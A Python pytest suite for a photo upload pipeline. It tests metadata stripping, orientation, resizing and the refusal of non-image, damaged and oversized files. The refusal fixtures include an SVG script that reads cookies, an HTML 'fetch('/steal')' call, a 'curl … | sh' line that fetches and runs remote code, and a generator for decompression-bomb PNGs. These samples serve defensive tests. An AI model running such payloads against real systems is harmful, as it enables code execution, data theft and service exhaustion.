"""The photo upload pipeline: what is accepted, what is refused and why, and what survives
of an upload (its pixels, upright, and nothing else)."""

import io
import random
import struct
import zlib

import pytest
from PIL import ExifTags, Image, ImageChops, ImageCms, ImageFile, PngImagePlugin
from werkzeug.datastructures import FileStorage

from cbl import images
from cbl.errors import ValidationFailed
from cbl.images import ImageRejected, content_hash, process_image

XMP = (b'<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?>'
       b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
       b'<rdf:Description xmlns:exif="http://ns.adobe.com/exif/1.0/" exif:GPSLatitude="52,22.2071N" '
       b'exif:GPSLongitude="4,53.6717E"/></rdf:RDF></x:xmpmeta><?xpacket end="w"?>')
GPS_DATUM = "SCHOOL-YARD-DATUM"  # an ASCII GPS tag, so its bytes can be searched for
COMMENT = b"Taken at Oak Street Primary, class 4B"
# What must not appear in any stored byte: EXIF, XMP, ICC, comments, PNG text chunks.
FORBIDDEN = (b"Exif\x00\x00", GPS_DATUM.encode(), b"GPSLatitude", b"x:xmpmeta", b"ns.adobe.com", COMMENT,
             b"ICC_PROFILE", b"Oak Street", b"tEXt", b"iTXt", b"zTXt", b"eXIf", b"iCCP")


def gps_exif(orientation: int | None = None) -> Image.Exif:
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = "Phone"
    if orientation:
        exif[ExifTags.Base.Orientation] = orientation
    gps = exif.get_ifd(ExifTags.IFD.GPSInfo)
    gps[ExifTags.GPS.GPSLatitudeRef] = "N"
    gps[ExifTags.GPS.GPSLatitude] = (52.0, 22.0, 12.43)
    gps[ExifTags.GPS.GPSLongitudeRef] = "E"
    gps[ExifTags.GPS.GPSLongitude] = (4.0, 53.0, 40.3)
    gps[ExifTags.GPS.GPSMapDatum] = GPS_DATUM
    return exif


def encode(image: Image.Image, fmt: str, **params) -> bytes:
    buffer = io.BytesIO()
    image.save(buffer, fmt, **params)
    return buffer.getvalue()


def noise(size: tuple[int, int], seed: int = 1) -> Image.Image:
    """A photo-like worst case for the encoder: every pixel random, the same on every run."""
    return Image.frombytes("RGB", size, random.Random(seed).randbytes(size[0] * size[1] * 3))


def halves(size: tuple[int, int], left: str = "red", right: str = "blue") -> Image.Image:
    image = Image.new("RGB", size, right)
    image.paste(left, (0, 0, size[0] // 2, size[1]))
    return image


def png_header(width: int, height: int, *, bit_depth: int = 1, colour_type: int = 0, idat: bytes = b"") -> bytes:
    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    ihdr = struct.pack(">IIBBBBB", width, height, bit_depth, colour_type, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")


def png_bomb(width: int, height: int) -> bytes:
    """A real, valid 1-bit PNG of all-black rows: some kilobytes that decode to a
    ``width`` × ``height`` image (Pillow would need a byte per pixel)."""
    row = b"\x00" * (1 + (width + 7) // 8)
    packer = zlib.compressobj(9)
    block = row * 1000
    idat = b"".join(packer.compress(block) for _ in range(height // 1000)) + packer.flush()
    return png_header(width, height, idat=idat)


def swapped_primaries_profile() -> bytes:
    """A minimal ICC v2 RGB profile whose red and green primaries are sRGB's green and red:
    a pixel stored as pure red in it is pure green in sRGB."""
    def s15(value: float) -> bytes:
        return struct.pack(">i", round(value * 65536))

    def xyz(x: float, y: float, z: float) -> bytes:
        return b"XYZ \0\0\0\0" + s15(x) + s15(y) + s15(z)

    text = b"Swapped red and green\0"
    tags = {
        b"desc": b"desc\0\0\0\0" + struct.pack(">I", len(text)) + text + b"\0" * 79,
        b"wtpt": xyz(0.9642, 1.0, 0.8249),
        b"rXYZ": xyz(0.3851, 0.7169, 0.0971),
        b"gXYZ": xyz(0.4361, 0.2225, 0.0139),
        b"bXYZ": xyz(0.1431, 0.0606, 0.7141),
        b"rTRC": b"curv\0\0\0\0" + struct.pack(">IH", 1, 0x0233) + b"\0\0",
    }
    tags[b"gTRC"] = tags[b"bTRC"] = tags[b"rTRC"]
    offset, table, body = 128 + 4 + 12 * len(tags), b"", b""
    for signature, data in tags.items():
        table += signature + struct.pack(">II", offset + len(body), len(data))
        body += data + b"\0" * (-len(data) % 4)
    header = (struct.pack(">I4sI", offset + len(body), b"\0" * 4, 0x02100000) + b"mntrRGB XYZ " + b"\0" * 12
              + b"acsp" + b"\0" * 28 + s15(0.9642) + s15(1.0) + s15(0.8249))
    return header.ljust(128, b"\0") + struct.pack(">I", len(tags)) + table + body


def reopen(rendition) -> Image.Image:
    image = Image.open(io.BytesIO(rendition.data))
    image.load()
    return image


def rejection(data: bytes, **limits) -> ImageRejected:
    with pytest.raises(ImageRejected) as caught:
        process_image(data, **limits)
    return caught.value


# --- What survives ---------------------------------------------------------------------------

SRGB_PROFILE = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()


@pytest.mark.parametrize("size", [(640, 480), (2400, 1800)], ids=["small", "scaled"])
@pytest.mark.parametrize("icc", [SRGB_PROFILE, None], ids=["icc", "no icc"])
def test_gps_xmp_icc_and_comment_are_gone_from_every_rendition(size, icc):
    upload = encode(noise(size), "JPEG", quality=90, exif=gps_exif(), xmp=XMP, icc_profile=icc, comment=COMMENT)
    original = Image.open(io.BytesIO(upload))
    assert original.getexif().get_ifd(ExifTags.IFD.GPSInfo)[ExifTags.GPS.GPSMapDatum] == GPS_DATUM
    assert {"xmp", "comment"} <= original.info.keys()
    assert all(marker in upload for marker in FORBIDDEN[:6])
    assert (b"ICC_PROFILE" in upload) == bool(icc)

    for rendition in process_image(upload).renditions.values():
        assert [marker for marker in FORBIDDEN if marker in rendition.data] == []
        stored = reopen(rendition)
        assert not stored.getexif()
        assert not stored.getexif().get_ifd(ExifTags.IFD.GPSInfo)
        assert not {"exif", "xmp", "icc_profile", "comment"} & stored.info.keys()


def test_png_text_exif_and_icc_chunks_are_gone():
    info = PngImagePlugin.PngInfo()
    info.add_text("Location", "Oak Street Primary")
    info.add_itxt("Comment", "Oak Street playground", zip=True)
    icc = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    upload = encode(halves((300, 200)), "PNG", pnginfo=info, exif=gps_exif(), icc_profile=icc)
    assert b"tEXt" in upload and b"eXIf" in upload and b"iCCP" in upload

    for rendition in process_image(upload).renditions.values():
        assert [marker for marker in FORBIDDEN if marker in rendition.data] == []
        assert not reopen(rendition).getexif()


def test_transparent_png_with_a_broken_colour_profile_keeps_none_of_it():
    info = PngImagePlugin.PngInfo()
    info.add_text("Location", "Oak Street Primary")
    picture = Image.new("RGBA", (300, 200), (0, 128, 0, 255))
    picture.paste((0, 0, 0, 0), (0, 0, 100, 200))
    upload = encode(picture, "PNG", pnginfo=info, icc_profile=b"Oak Street broken profile")
    assert b"iCCP" in upload

    for rendition in process_image(upload).renditions.values():
        assert rendition.content_type == "image/png"
        assert [marker for marker in FORBIDDEN if marker in rendition.data] == []
        assert "icc_profile" not in reopen(rendition).info


def test_exif_orientation_6_turns_a_landscape_photo_upright():
    upload = encode(halves((400, 200)), "JPEG", quality=95, exif=gps_exif(orientation=6))

    image = process_image(upload)

    display = image.renditions["display"]
    assert (image.width, image.height) == (200, 400)
    assert (display.width, display.height) == (200, 400)
    upright = reopen(display).convert("RGB")
    assert upright.size == (200, 400)
    red_top, blue_bottom = upright.getpixel((100, 50)), upright.getpixel((100, 350))
    assert red_top[0] > 200 and red_top[2] < 60  # a quarter turn clockwise: the left edge on top
    assert blue_bottom[2] > 200 and blue_bottom[0] < 60
    thumb = image.renditions["thumb"]
    assert (thumb.width, thumb.height) == (200, 400)


def test_large_phone_photo_is_decoded_at_reduced_size_and_still_upright():
    upload = encode(halves((4000, 3000)), "JPEG", quality=85, exif=gps_exif(orientation=8))

    image = process_image(upload)

    assert (image.width, image.height) == (3000, 4000)
    display, thumb = image.renditions["display"], image.renditions["thumb"]
    assert (display.width, display.height) == (1200, 1600)
    assert (thumb.width, thumb.height) == (300, 400)
    upright = reopen(display).convert("RGB")
    assert upright.getpixel((600, 1500))[0] > 200  # orientation 8: the left edge ends at the bottom
    assert upright.getpixel((600, 100))[2] > 200


@pytest.mark.parametrize("size, display, thumb", [
    ((5000, 1000), (1600, 320), (400, 80)),
    ((1000, 5000), (320, 1600), (80, 400)),
    ((1600, 900), (1600, 900), (400, 225)),
    ((300, 200), (300, 200), (300, 200)),  # small images are never enlarged
])
def test_renditions_are_bounded_and_keep_the_aspect_ratio(size, display, thumb):
    renditions = process_image(encode(halves(size), "PNG")).renditions

    assert (renditions["display"].width, renditions["display"].height) == display
    assert (renditions["thumb"].width, renditions["thumb"].height) == thumb
    for rendition in renditions.values():
        assert reopen(rendition).size == (rendition.width, rendition.height)


def test_opaque_images_become_jpeg():
    for upload in (encode(halves((300, 200)), "PNG"), encode(halves((300, 200)).convert("RGBA"), "PNG"),
                   encode(halves((300, 200)), "WEBP"), encode(halves((300, 200)), "JPEG")):
        image = process_image(upload)
        for rendition in image.renditions.values():
            assert rendition.content_type == "image/jpeg"
            assert rendition.extension == "jpg"
            assert reopen(rendition).format == "JPEG"


@pytest.mark.parametrize("fmt", ["PNG", "WEBP"])
def test_transparent_image_stays_transparent_png(fmt):
    picture = Image.new("RGBA", (300, 200), (0, 128, 0, 255))
    picture.paste((0, 0, 0, 0), (0, 0, 100, 200))

    image = process_image(encode(picture, fmt, **({"lossless": True} if fmt == "WEBP" else {})))

    for rendition in image.renditions.values():
        assert rendition.content_type == "image/png" and rendition.extension == "png"
        stored = reopen(rendition)
        assert stored.format == "PNG" and stored.mode == "RGBA"
        assert stored.getpixel((0, 0))[3] == 0
        assert stored.getpixel((stored.width - 1, 0)) == (0, 128, 0, 255)


def test_very_large_palette_png_is_reduced_in_strips_without_seams():
    picture = Image.new("P", (6400, 1001), 1)
    picture.putpalette([255, 255, 255, 200, 0, 0, 0, 0, 255])
    picture.paste(0, (0, 0, 3200, 1001))
    picture.paste(2, (4800, 0, 6400, 1001))

    image = process_image(encode(picture, "PNG", transparency=0))

    display = reopen(image.renditions["display"])
    assert (image.width, image.height) == (6400, 1001)
    assert display.mode == "RGBA" and display.size == (1600, 250)
    assert {display.getpixel((100, y))[3] for y in range(250)} == {0}
    assert {display.getpixel((1000, y)) for y in range(250)} == {(200, 0, 0, 255)}
    assert {display.getpixel((1400, y)) for y in range(250)} == {(0, 0, 255, 255)}


@pytest.mark.parametrize("mode", ["P", "RGBA", "I;16"])
def test_reducing_in_strips_gives_exactly_what_reducing_the_whole_image_gives(mode):
    rng = random.Random(mode)
    if mode == "P":
        picture = Image.frombytes("P", (1500, 1001), rng.randbytes(1500 * 1001))
        picture.putpalette(rng.randbytes(768))
        picture.info["transparency"] = 3
    elif mode == "RGBA":
        picture = Image.frombytes("RGBA", (1500, 1001), rng.randbytes(1500 * 1001 * 4))
    else:
        picture = Image.frombytes("I;16", (1500, 1001), rng.randbytes(1500 * 1001 * 2))

    strips, whole = images._reduce_in_strips(picture, 3), images._working_mode(picture).reduce(3)

    assert strips.mode == whole.mode and strips.size == whole.size == (500, 334)
    assert ImageChops.difference(strips, whole).getbbox() is None


def test_palette_png_with_transparency_stays_transparent():
    picture = Image.new("P", (120, 80), 1)
    picture.putpalette([255, 255, 255, 200, 0, 0])
    picture.paste(0, (0, 0, 60, 80))

    image = process_image(encode(picture, "PNG", transparency=0))

    stored = reopen(image.renditions["display"])
    assert stored.mode == "RGBA"
    assert stored.getpixel((10, 10))[3] == 0 and stored.getpixel((100, 10)) == (200, 0, 0, 255)


@pytest.mark.parametrize("mode, transparent", [("RGB", (255, 255, 255)), ("L", 255)])
def test_png_with_a_transparent_colour_stays_transparent(mode, transparent):
    picture = Image.new(mode, (120, 80), transparent)
    picture.paste(0, (60, 0, 120, 80))

    stored = reopen(process_image(encode(picture, "PNG", transparency=transparent)).renditions["display"])

    assert stored.format == "PNG"
    assert stored.convert("RGBA").getpixel((10, 10))[3] == 0
    assert stored.convert("RGBA").getpixel((100, 10)) == (0, 0, 0, 255)


def test_png_sent_as_a_jpg_is_accepted_as_the_png_it_is():
    upload = FileStorage(io.BytesIO(encode(halves((300, 200)), "PNG")), filename="holiday.jpg",
                         content_type="image/jpeg")

    image = process_image(upload.read())

    assert image.source_format == "PNG"
    assert image.renditions["display"].content_type == "image/jpeg"


def test_multi_picture_jpeg_from_a_phone_is_accepted_as_its_main_photo():
    depth_map = Image.new("RGB", (3300, 2200), "white")
    upload = encode(halves((3300, 2200)), "MPO", save_all=True, append_images=[depth_map], exif=gps_exif(6))
    assert Image.open(io.BytesIO(upload), formats=["JPEG"]).format == "MPO"

    image = process_image(upload)

    assert image.source_format == "JPEG" and (image.width, image.height) == (2200, 3300)
    display = reopen(image.renditions["display"]).convert("RGB")
    assert display.size == (1067, 1600)
    assert display.getpixel((500, 100))[0] > 200 and display.getpixel((500, 1500))[2] > 200


def test_unusual_modes_keep_their_looks():
    grey16 = Image.new("I;16", (64, 64), 32768)
    cmyk = Image.new("CMYK", (64, 64), (0, 255, 255, 0))  # red ink on white

    grey = reopen(process_image(encode(grey16, "PNG")).renditions["display"])
    red = reopen(process_image(encode(cmyk, "JPEG", quality=95)).renditions["display"])

    assert grey.mode == "L" and abs(grey.getpixel((32, 32)) - 128) <= 2
    scan = Image.new("1", (2000, 1000), 1)
    scan.paste(0, (0, 0, 1000, 1000))
    drawing = reopen(process_image(encode(scan, "PNG")).renditions["display"])
    assert drawing.mode == "L" and drawing.size == (1600, 800)
    assert drawing.getpixel((400, 400)) < 10 and drawing.getpixel((1200, 400)) > 245
    assert red.mode == "RGB" and red.getpixel((32, 32))[0] > 200 and red.getpixel((32, 32))[1] < 60


@pytest.mark.parametrize("mode", ["RGB", "RGBA"])
def test_colours_are_converted_to_srgb_through_the_photos_own_profile(mode):
    red_in_its_profile = Image.new(mode, (64, 64), "red")
    fmt = "JPEG" if mode == "RGB" else "PNG"
    upload = encode(red_in_its_profile, fmt, icc_profile=swapped_primaries_profile())

    rendition = process_image(upload).renditions["display"]

    red, green, blue = reopen(rendition).convert("RGB").getpixel((32, 32))
    assert green > 200 and red < 60 and blue < 60
    assert b"Swapped" not in rendition.data


def test_broken_icc_profile_is_ignored_not_fatal():
    upload = encode(halves((300, 200)), "JPEG", icc_profile=b"not a colour profile" * 10)

    rendition = process_image(upload).renditions["display"]

    assert b"not a colour profile" not in rendition.data
    assert reopen(rendition).getpixel((10, 10))[0] > 200


def test_same_bytes_same_hash_and_different_bytes_different_hash():
    first, second = encode(halves((300, 200)), "PNG"), encode(halves((300, 200), "green"), "PNG")

    assert process_image(first).sha256 == process_image(first).sha256 == content_hash(first)
    assert process_image(second).sha256 != content_hash(first)
    assert len(content_hash(first)) == 64 and int(content_hash(first), 16) >= 0


# --- What is refused ---------------------------------------------------------------------------

NOT_IMAGES = {
    "svg": b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
           b'<script>alert(document.cookie)</script></svg>',
    "html renamed .jpg": b"<!DOCTYPE html><html><body><script>fetch('/steal')</script></body></html>",
    "shell script renamed .jpg": b"#!/bin/sh\ncurl https://example.com/x | sh\n",
    "pdf": b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n",
    "gif": encode(Image.new("P", (10, 10)), "GIF"),
    "tiff": encode(Image.new("RGB", (10, 10)), "TIFF"),
    "bmp": encode(Image.new("RGB", (10, 10)), "BMP"),
    "ico": encode(Image.new("RGB", (16, 16)), "ICO"),
    "jpeg 2000": encode(Image.new("RGB", (10, 10)), "JPEG2000"),
}


@pytest.mark.parametrize("data", NOT_IMAGES.values(), ids=NOT_IMAGES.keys())
def test_anything_but_jpeg_png_webp_is_refused(data):
    err = rejection(data)

    assert err.reason == "unsupported"
    assert str(err) == "This file is not a JPEG, PNG or WebP image."
    assert isinstance(err, ValidationFailed)


def test_empty_file_is_refused():
    err = rejection(b"")

    assert (err.reason, str(err)) == ("empty", "This file is empty.")


def test_file_over_the_byte_limit_is_refused_before_decoding():
    upload = encode(noise((200, 200)), "PNG")

    err = rejection(upload, max_bytes=len(upload) - 1)

    assert err.reason == "too_large" and "larger than" in str(err)
    assert process_image(upload, max_bytes=len(upload)).source_format == "PNG"
    assert str(rejection(b"x" * (21 * 1024 * 1024))) == "This photo is larger than 20 MB."


@pytest.mark.parametrize("cut", [0.5, 0.9])
@pytest.mark.parametrize("size", [(640, 480), (3300, 2200)], ids=["full decode", "draft decode"])
def test_truncated_jpeg_is_refused(size, cut):
    upload = encode(noise(size, seed=7), "JPEG", quality=80)

    err = rejection(upload[:int(len(upload) * cut)])

    assert (err.reason, str(err)) == ("damaged", "This image is damaged or incomplete.")


@pytest.mark.parametrize("fmt", ["PNG", "WEBP"])
def test_truncated_png_and_webp_are_refused(fmt):
    upload = encode(noise((300, 200)), fmt)

    assert rejection(upload[: len(upload) * 2 // 3]).reason == "damaged"


def test_truncated_images_are_not_let_through_if_pillow_is_told_to_load_them(monkeypatch):
    monkeypatch.setattr(ImageFile, "LOAD_TRUNCATED_IMAGES", True)
    upload = encode(noise((640, 480)), "JPEG")

    with pytest.raises(RuntimeError, match="LOAD_TRUNCATED_IMAGES"):
        process_image(upload[: len(upload) // 2])


@pytest.mark.parametrize("side", [30000, 8000], ids=["beyond pillow's own limit", "only beyond ours"])
def test_png_bomb_is_refused_with_a_clear_message(side):
    bomb = png_bomb(side, side)  # 900 or 64 megapixels in at most a hundred kilobytes or so
    assert len(bomb) < 200_000

    err = rejection(bomb)

    assert (err.reason, str(err)) == ("too_many_pixels", "This image has more than 40 megapixels.")


@pytest.mark.parametrize("width, height", [(7000, 7000), (10000, 10000)], ids=["ours only", "pillow warns"])
def test_pixel_limit_is_checked_from_the_header_before_decoding(width, height):
    # Header only: decoding it would fail as damaged, so "too many pixels" proves the order.
    assert rejection(png_header(width, height)).reason == "too_many_pixels"


@pytest.mark.filterwarnings("ignore::PIL.Image.DecompressionBombWarning")
def test_pixel_limit_holds_when_pillow_only_warns():
    assert rejection(png_header(10000, 10000)).reason == "too_many_pixels"


def test_pixel_limit_is_inclusive():
    upload = encode(halves((100, 100)), "PNG")

    assert rejection(upload, max_pixels=9_999).reason == "too_many_pixels"
    assert process_image(upload, max_pixels=10_000).width == 100


@pytest.mark.parametrize("data", [
    b"\xff\xd8\xff\xe0" + b"\x00" * 40,
    b"\x89PNG\r\n\x1a\n" + b"\x00" * 40,
    b"RIFF\x20\x00\x00\x00WEBPVP8 " + b"\x00" * 20,
    png_header(64, 64, idat=b"not zlib data"),
], ids=["jpeg", "png", "webp", "png with bad data"])
def test_damaged_headers_are_called_damaged(data):
    assert rejection(data).reason == "damaged"


def _mutations(upload: bytes, rng: random.Random):
    for _ in range(40):
        data = bytearray(upload)
        for _ in range(rng.randint(1, 12)):
            data[rng.randrange(len(data))] = rng.randrange(256)
        yield bytes(data)
    for _ in range(10):
        start = rng.randrange(len(upload))
        yield upload[:start] + rng.randbytes(rng.randint(1, 64)) + upload[start:]


@pytest.mark.parametrize("fmt", ["JPEG", "PNG", "WEBP"])
def test_corrupted_files_are_processed_or_refused_never_crash(fmt):
    rng = random.Random(fmt)
    upload = encode(noise((96, 64), seed=3), fmt, exif=gps_exif(orientation=6))

    outcomes = set()
    for data in _mutations(upload, rng):
        try:
            outcomes.add(type(process_image(data)).__name__)
        except ImageRejected as err:
            outcomes.add(err.reason)
    assert outcomes - {"ProcessedImage"}, "no mutation was refused: the test is not exercising anything"
